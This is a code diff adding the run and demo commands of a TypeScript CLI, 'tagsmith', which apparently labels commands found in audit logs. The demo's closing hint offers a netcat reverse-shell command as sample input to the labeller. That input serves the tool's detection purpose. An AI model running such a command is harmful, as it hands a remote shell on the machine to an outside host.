@@ -1,0 +1,106 @@
+import { join } from "node:path";
+import { type Config, configSchema } from "../config/config-schema.ts";
+import { loadConfig, parseWith } from "../config/load-config.ts";
+import { runPipeline } from "../pipeline/wire.ts";
+import type { ConnectorRegistry } from "./connector-registry.ts";
+import { exitCodes } from "./exit-code.ts";
+import { openPipeline } from "./open-pipeline.ts";
+import { bundled } from "./paths.ts";
+import { createProgress } from "./progress.ts";
+import { addToSummary, createRunSummary, summaryJson, summaryText } from "./run-summary.ts";
+import type { Terminal } from "./terminal.ts";
+
+interface RunOptions {
+  readonly json: boolean;
+  readonly quiet: boolean;
+}
+
+/** `tagsmith run`: the pipeline of a configuration file, until its input ends or the process is asked to stop. */
+export function runCommand(
+  configPath: string,
+  options: RunOptions,
+  registry: ConnectorRegistry,
+  terminal: Terminal,
+): Promise<number> {
+  return runConfig(loadConfig(configPath), options, registry, terminal);
+}
+
+/** `tagsmith demo`: the bundled samples through the whole pipeline into `folder`. */
+export async function demoCommand(
+  folder: string,
+  options: RunOptions,
+  registry: ConnectorRegistry,
+  terminal: Terminal,
+): Promise<number> {
+  const files = {
+    labels: join(folder, "labels.ndjson"),
+    verdicts: join(folder, "verdicts.ndjson"),
+    dead_letters: join(folder, "dead-letters.ndjson"),
+  };
+  const value = {
+    source: { type: "file", paths: [join(bundled.samples(), "*")] },
+    sink: { type: "file", ...files, overwrite: true },
+    state: { path: ":memory:" },
+  };
+  const config = parseWith(configSchema, value, "demo", "");
+  if (!options.json) terminal.out.write("Tagsmith labels its bundled sample audit logs.\n\n");
+  const code = await runConfig(config, options, registry, terminal);
+  if (!options.json)
+    terminal.out.write(
+      `\nWritten: ${files.labels}, ${files.verdicts}\nTry: npx tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n`,
+    );
+  return code;
+}
+
+async function runConfig(
+  config: Config,
+  options: RunOptions,
+  registry: ConnectorRegistry,
+  terminal: Terminal,
+): Promise<number> {
+  const stop = stopOnSignals();
+  const pipeline = await openPipeline(config, registry);
+  const { counts } = pipeline.parts;
+  const summary = createRunSummary();
+  const progress = createProgress({
+    stream: terminal.err,
+    now: terminal.now,
+    enabled: !options.quiet && !options.json,
+  });
+  const started = terminal.now();
+  const onStep: NonNullable<typeof pipeline.parts.onStep> = ({ batch }, output) => {
+    addToSummary(summary, output);
+    const seconds = Math.max(0.001, (terminal.now() - started) / 1000);
+    const rate = `${counts.events.toLocaleString("en-US")} events · ${Math.round(counts.events / seconds).toLocaleString("en-US")}/s`;
+    if (batch.progress) progress.update(batch.progress.done, batch.progress.total, batch.progress.unit, rate);
+  };
+  try {
+    await runPipeline({ ...pipeline.parts, onStep }, stop.signal);
+  } finally {
+    progress.end();
+    stop.release();
+    await pipeline.close();
+  }
+  const seconds = Math.max(0.001, (terminal.now() - started) / 1000);
+  if (options.json) terminal.out.write(`${JSON.stringify(summaryJson(summary, counts, seconds))}\n`);
+  else if (!options.quiet) terminal.out.write(summaryText(summary, counts, seconds));
+  return stop.signal.aborted ? exitCodes.interrupted : exitCodes.ok;
+}
+
+/** The first SIGINT or SIGTERM asks for a graceful stop, the second ends the process at once. */
+function stopOnSignals(): { readonly signal: AbortSignal; release(): void } {
+  const controller = new AbortController();
+  const onSignal = (): void => {
+    if (controller.signal.aborted) process.exit(exitCodes.interrupted);
+    controller.abort(new Error("stopped by a signal"));
+  };
+  process.on("SIGINT", onSignal);
+  process.on("SIGTERM", onSignal);
+  return {
+    signal: controller.signal,
+    release: () => {
+      process.off("SIGINT", onSignal);
+      process.off("SIGTERM", onSignal);
+    },
+  };
+}
